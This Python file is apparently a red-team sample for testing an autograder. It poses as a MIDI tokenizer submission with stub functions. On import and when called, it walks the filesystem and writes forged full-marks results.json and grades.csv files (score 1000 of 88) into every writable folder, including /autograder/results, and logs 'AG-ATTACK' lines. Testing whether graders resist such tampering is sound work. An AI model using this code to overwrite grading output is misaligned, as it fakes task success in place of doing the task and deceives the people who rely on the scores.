"""Attack: write full-marks results.json and grades.csv wherever this process can
write: the output folder, the checkout, the current folder, every writable folder."""
import json
import os

MARK = "@@MARK@@"
OUT = "@@OUT@@"
REPO = "@@REPO@@"
NAME = "forge_files"
RESULTS = json.dumps({"score": 1000.0, "output": f"full marks {MARK}", "tests": [
    {"name": "forged", "score": 1000.0, "max_score": 1000.0, "status": "passed", "output": MARK}]})
CSV = f"submission,student,score,max_score\n{NAME},{NAME},1000,88\n# {MARK}\n"


WROTE = []


def _forge():
    targets = [OUT, os.path.join(OUT, NAME), REPO, os.path.join(REPO, "out"), os.getcwd(), "/tmp",
               "/autograder/results", "/scratch", "/submission", os.path.expanduser("~")]
    for root, dirs, files in os.walk("/", onerror=lambda error: None):
        if root.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        if os.access(root, os.W_OK):
            targets.append(root)
    for folder in targets:
        for name, text in (("results.json", RESULTS), ("grades.csv", CSV)):
            path = os.path.join(folder, name)
            try:
                with open(path, "w") as handle:
                    handle.write(text)
                if not path.startswith("/scratch/"):
                    print(f"AG-ATTACK wrote {path}")
                    WROTE.append(path)
            except OSError:
                pass


_forge()


def midi_to_tokens(midi):
    _forge()
    raise RuntimeError(f"AG-ATTACK report: {len(WROTE)} found: {WROTE[:10]}")


def tokens_to_midi(tokens, bpm=120):
    return None
